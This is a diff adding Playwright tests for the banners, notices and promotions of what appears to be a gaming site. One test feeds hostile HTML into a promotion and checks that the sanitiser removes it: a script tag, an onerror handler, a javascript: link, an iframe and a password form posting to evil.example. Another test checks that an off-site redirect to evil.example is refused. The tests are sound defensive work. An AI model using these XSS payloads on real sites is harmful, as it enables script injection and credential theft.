@@ -1,0 +1,187 @@
+/**
+ * The content half of home and its pages (issue 26, decision 045), scripts on and off: the banner
+ * carousel (a scroll row without scripts; with scripts it turns every 2500 ms and holds on hover),
+ * a banner's press by its linkageType, the notice strip and the notice viewer (/news: ten a page,
+ * one open at a time), the promotions (details, ?id=, joining through the login) and the
+ * operator's HTML cleaned before it reaches a page.
+ */
+import { expect, test, type Page } from "@playwright/test";
+import { BASE_URL, landedAt, loginAs, open, PLAYER, reference, scriptsOn, submitLogin } from "./helpers";
+
+const slides = (page: Page) => page.locator(".banners__track > li");
+const track = (page: Page) => page.locator(".banners__track");
+
+test.describe("home's banners", () => {
+  test("every banner is there, the first in view; with scripts the row turns by itself and holds under the pointer", async ({
+    page,
+  }, testInfo) => {
+    if (scriptsOn(testInfo)) await page.clock.install();
+    await open(page, "/", testInfo);
+    await expect(slides(page)).toHaveCount(5);
+    await expect(slides(page).first()).toBeInViewport();
+    const left = () => track(page).evaluate((el) => Math.round(el.scrollLeft / el.clientWidth));
+    expect(await left()).toBe(0);
+    if (!scriptsOn(testInfo)) {
+      // No controls to press: the row is scrolled by hand.
+      await expect(page.locator(".banner-carousel__controls")).toHaveCount(0);
+      return;
+    }
+    await page.clock.runFor(2600);
+    await expect.poll(left).toBe(1);
+    // Under the pointer it holds still.
+    await track(page).hover();
+    await page.clock.runFor(6000);
+    expect(await left()).toBe(1);
+    await page.mouse.move(0, 0);
+    await page.clock.runFor(2600);
+    await expect.poll(left).toBe(2);
+    // A dot goes to its banner; past the last the row starts again.
+    await page.getByRole("button", { name: "第 5 张，共 5 张" }).click();
+    await expect.poll(left).toBe(4);
+    await page.mouse.move(0, 0);
+    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
+    await page.clock.runFor(2600);
+    await expect.poll(left).toBe(0);
+  });
+
+  test("a promotion's banner opens that promotion; a portal path is followed in place", async ({ page }, testInfo) => {
+    await open(page, "/", testInfo);
+    await slides(page).nth(2).locator("a").click();
+    await expect(page).toHaveURL(`${BASE_URL}/promotions?id=3002`);
+    await expect(page.getByRole("heading", { name: "首存 100% 红利" }).first()).toBeVisible();
+    await open(page, "/", testInfo);
+    await slides(page).first().locator("a").click();
+    await expect(page).toHaveURL(`${BASE_URL}/register`);
+  });
+
+  test("an off-site banner carries a player's username, and a guest's none", async ({ page }, testInfo) => {
+    const away = async () => {
+      const response = await page.request.get(`${BASE_URL}/banner/102`, { maxRedirects: 0 });
+      expect(response.status()).toBe(302);
+      expect(response.headers()["cache-control"]).toContain("no-store");
+      return response.headers().location;
+    };
+    expect(await away()).toBe("https://example.com/news");
+    await loginAs(page, PLAYER, testInfo);
+    expect(await away()).toBe("https://example.com/news?username=player01");
+    // Only the operator's own banners are followed.
+    expect((await page.request.get(`${BASE_URL}/banner/101`, { maxRedirects: 0 })).status()).toBe(404);
+    expect((await page.request.get(`${BASE_URL}/banner/https%3A%2F%2Fevil.example`, { maxRedirects: 0 })).status()).toBe(404);
+  });
+
+  test("a game's banner launches the game for a player and asks a guest to log in", async ({ page }, testInfo) => {
+    await open(page, "/", testInfo);
+    if (scriptsOn(testInfo)) {
+      await slides(page).nth(4).locator("button").click();
+      // The pop-up login, as any Play of a guest.
+      await expect(page.getByRole("dialog")).toBeVisible();
+    } else {
+      // The game's window opens, and a guest is asked to log in there.
+      const [popup] = await Promise.all([page.waitForEvent("popup"), slides(page).nth(4).locator("button").click()]);
+      await expect(popup).toHaveURL(/\/login\?redirectTo=/);
+    }
+  });
+});
+
+test.describe("notices", () => {
+  test("home's strip leads to the notice, open on its page; one row opens at a time", async ({ page }, testInfo) => {
+    // The strip runs sideways (and holds under the pointer); a still one is clicked the same way.
+    await page.emulateMedia({ reducedMotion: "reduce" });
+    await open(page, "/", testInfo);
+    const first = page.locator(".notice-strip__list a").first();
+    const title = (await first.textContent())!;
+    await first.click();
+    await expect(page).toHaveURL(/\/news\?id=1001/);
+    const opened = page.locator("details.notice-row[open]");
+    await expect(opened).toHaveCount(1);
+    await expect(opened.locator("summary")).toContainText(title);
+    // Another row opens and the first closes (the browser's <details name>).
+    await page.locator("details.notice-row summary").nth(3).click();
+    await expect(opened).toHaveCount(1);
+    await expect(page.locator("details.notice-row").nth(3)).toHaveAttribute("open", "");
+  });
+
+  test("ten a page; the strip goes to page 3 and a notice of page 3 opens there", async ({ page }, testInfo) => {
+    await open(page, "/news", testInfo);
+    await expect(page.locator("details.notice-row")).toHaveCount(10);
+    const strip = page.getByRole("navigation", { name: "公告分页" });
+    await strip.getByRole("link", { name: "3", exact: false }).last().click();
+    await expect(page).toHaveURL(`${BASE_URL}/news?page=3`);
+    await expect(page.locator("details.notice-row")).toHaveCount(4);
+    await expect(strip.locator("[aria-current=page]")).toHaveText("3");
+    await open(page, "/news?id=1024", testInfo);
+    await expect(page.getByRole("navigation", { name: "公告分页" }).locator("[aria-current=page]")).toHaveText("3");
+    await expect(page.locator("#notice-1024")).toHaveAttribute("open", "");
+  });
+});
+
+test.describe("promotions", () => {
+  test("a promotion's details open in place; ?id= opens it over the grid (a panel without scripts)", async ({ page }, testInfo) => {
+    await open(page, "/promotions", testInfo);
+    await expect(page.locator(".promotion-card")).toHaveCount(8);
+    const card = page.locator(".promotion-card").nth(1);
+    await card.getByText("详情").click();
+    await expect(card.locator(".operator-html table")).toBeVisible();
+    await card.getByRole("link", { name: "首存 100% 红利" }).click();
+    await expect(page).toHaveURL(`${BASE_URL}/promotions?id=3002`);
+    if (scriptsOn(testInfo)) {
+      const dialog = page.locator("dialog.modal[open]");
+      await expect(dialog.getByRole("heading", { name: "首存 100% 红利" })).toBeVisible();
+      await page.keyboard.press("Escape");
+      await expect(dialog).toHaveCount(0);
+      await expect(page).toHaveURL(`${BASE_URL}/promotions`);
+      // A hash opens it too.
+      await page.goto(`${BASE_URL}/promotions#3004`);
+      await expect(page.locator("dialog.modal[open]").getByRole("heading", { level: 2 })).toBeVisible();
+    } else {
+      await expect(page.locator(".promotion-detail h2")).toHaveText("首存 100% 红利");
+      await page.getByRole("link", { name: "返回优惠活动" }).click();
+      await expect(page).toHaveURL(`${BASE_URL}/promotions`);
+    }
+  });
+
+  test("a guest joins through the login and lands on the promotion type's page", async ({ page }, testInfo) => {
+    await open(page, "/promotions?id=3008", testInfo);
+    const scope = scriptsOn(testInfo) ? page.locator("dialog.modal[open]") : page.locator(".promotion-detail");
+    await scope.getByRole("link", { name: "登录后参加" }).click();
+    await expect(page).toHaveURL(/\/login\?redirectTo=/);
+    await submitLogin(page, PLAYER);
+    await expect(page).toHaveURL(landedAt("/member/rewardCenter?tab=signInTask"));
+  });
+
+  test("an unknown id says so; the operator's HTML is cleaned before it reaches the page", async ({ page }, testInfo) => {
+    const violations: string[] = [];
+    page.on("console", (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
+    const hits: string[] = [];
+    await page.route("https://evil.example/**", (route) => {
+      hits.push(route.request().url());
+      return route.abort();
+    });
+    const { id } = await reference("/__reference/announcements", {
+      kind: "promotion",
+      title: "<b>Hostile</b> promo",
+      promotionType: "LOGIN",
+      content:
+        '<p style="position:fixed;inset:0">Hi</p><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">' +
+        '<a href="javascript:window.__pwned=3">x</a><iframe src="https://evil.example/f"></iframe>' +
+        '<form action="https://evil.example/steal"><input name=password></form><img src="https://evil.example/p.png">',
+    });
+    try {
+      await open(page, `/promotions?id=${id}`, testInfo);
+      const scope = scriptsOn(testInfo) ? page.locator("dialog.modal[open]") : page.locator(".promotion-detail");
+      await expect(scope.getByRole("heading", { name: "Hostile promo" })).toBeVisible();
+      const html = await scope.locator(".operator-html").innerHTML();
+      expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|<form|style=/i);
+      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+      expect(violations).toEqual([]);
+      // An https image of another host is allowed by img-src and harmless; nothing else reached that host.
+      expect(hits.filter((url) => !url.endsWith("/p.png"))).toEqual([]);
+      await open(page, "/promotions?id=999999", testInfo);
+      await expect(page.getByText("该活动已结束或不存在")).toBeVisible();
+    } finally {
+      await reference("/__reference/announcements", { reset: true });
+    }
+  });
+});
